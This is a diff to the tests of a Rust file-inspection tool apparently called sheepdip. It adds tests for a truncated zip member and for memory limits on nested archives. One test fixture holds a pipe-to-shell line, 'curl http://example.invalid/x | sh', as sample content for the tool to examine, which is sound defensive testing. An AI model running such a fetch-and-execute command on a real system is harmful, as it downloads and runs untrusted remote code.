@@ -13,7 +13,7 @@ use sheepdip::model::artifact::{Artifact, ArtifactId, Content, Origin, Sample};
 use sheepdip::model::claim::Claim;
 use sheepdip::model::finding::{Evidence, Finding};
 use sheepdip::model::gap::{Gap, GapReason, LimitKind, PlacedGap};
-use sheepdip::model::inspection::{Child, Inspection, Sink};
+use sheepdip::model::inspection::{Child, Extent, Inspection, Sink};
 use sheepdip::model::limits::{Budget, Limits};
 use sheepdip::model::name::{Name, escape, escape_short, is_deceptive};
 use sheepdip::model::password::Password;
@@ -201,8 +201,8 @@ impl Sink for Counter {
         self.gaps.push(gap);
     }
 
-    fn child(&mut self, _: &Artifact, sample: Sample, whole: bool) -> Option<Child> {
-        self.children.push((sample.content.size(), whole));
+    fn child(&mut self, _: &Artifact, sample: Sample, extent: Extent) -> Option<Child> {
+        self.children.push((sample.content.size(), extent != Extent::Head));
         Some(Child { content_type: &UNKNOWN, worst: None, size: 0, whole: true })
     }
 
@@ -343,4 +343,36 @@ fn a_verdict_is_that_of_the_worst_part() {
     let inner = zip::archive(&members);
     let report = case("photos.zip", zip::of("more.zip", inner)).examine();
     assert_eq!(report.judgement.verdict, Verdict::Dangerous);
+}
+
+#[test]
+fn of_a_member_that_breaks_off_there_is_no_hash_but_what_came_is_examined() {
+    // Half of a deflated program with something readable in it.
+    let mut words = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n".to_vec();
+    words.extend(crate::forge::noise(50_000));
+    let whole = zip::deflated("run.sh", &words);
+    let cut = zip::Member { data: whole.data[..whole.data.len() / 2].to_vec(), ..whole };
+    let report = case("a.zip", zip::archive(&[cut])).examine();
+    let part = &report.artifacts[1];
+    assert!(part.size > 1000 && part.hashes.is_none(), "{part:?}");
+    assert!(report.gaps.iter().any(|g| g.gap.reason == GapReason::Malformed), "{:?}", report.gaps);
+    assert_ne!(part.content_type.id, "unknown", "what came is typed");
+}
+
+#[test]
+fn what_is_in_memory_at_a_time_is_limited_however_deep_it_stands() {
+    // Each archive holds the next one stored: one byte of the file is several in memory.
+    let mut bytes = zip::of("zeros.bin", vec![0; 200_000]);
+    let plain = zip::of("zeros.bin", vec![1; 1000]);
+    for level in 0..3 {
+        let filler = zip::stored("filler.bin", vec![level; 50_000]);
+        bytes = zip::archive(&[zip::deflated("inner.zip", bytes), filler, zip::stored("plain.zip", &plain)]);
+    }
+    let outer = zip::of("a.zip", bytes);
+    let report = case("outer.zip", outer.clone()).examine_with(&with_limits(|l| l.memory = 250_000));
+    let gap = report.gaps.iter().find(|g| g.gap.reason == GapReason::Limit(LimitKind::Memory)).expect("no gap");
+    assert!(gap.gap.detail.contains("250000"), "{}", gap.gap.detail);
+    // What is released can be used again: the last small archive is examined.
+    assert!(report.artifacts.last().unwrap().hashes.is_some());
+    assert!(case("outer.zip", outer).examine().judgement.complete);
 }
